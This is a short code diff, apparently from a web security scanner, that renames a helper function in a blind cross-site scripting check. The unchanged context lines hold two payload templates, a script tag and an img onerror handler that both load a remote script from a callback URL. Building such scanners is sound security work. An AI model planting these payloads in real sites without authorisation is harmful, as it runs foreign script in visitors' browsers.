@@ -1,5 +1,5 @@
 import type { InjectionPoint } from '../active-check.ts';
-import { wordsOf } from '../probing/point-words.ts';
+import { pointInWords } from '../probing/point-words.ts';
 import type { OutOfBandCheck } from './out-of-band-check.ts';
 
 /** What is written down and shown to somebody else, later: texts, and what a log has of a visitor. */
@@ -38,5 +38,6 @@ export const blindXss: OutOfBandCheck = {
     `${mark}${out}<script src=${url}></script>`,
     `${mark}${out}<img src=x onerror="var s=document.createElement('script');s.src='${url}';document.head.append(s)">`,
   ],
-  words: (point) => `${wordsOf(point)} is stored and shown on a page, where a browser loads a script that it holds.`,
+  words: (point) =>
+    `${pointInWords(point)} is stored and shown on a page, where a browser loads a script that it holds.`,
 };
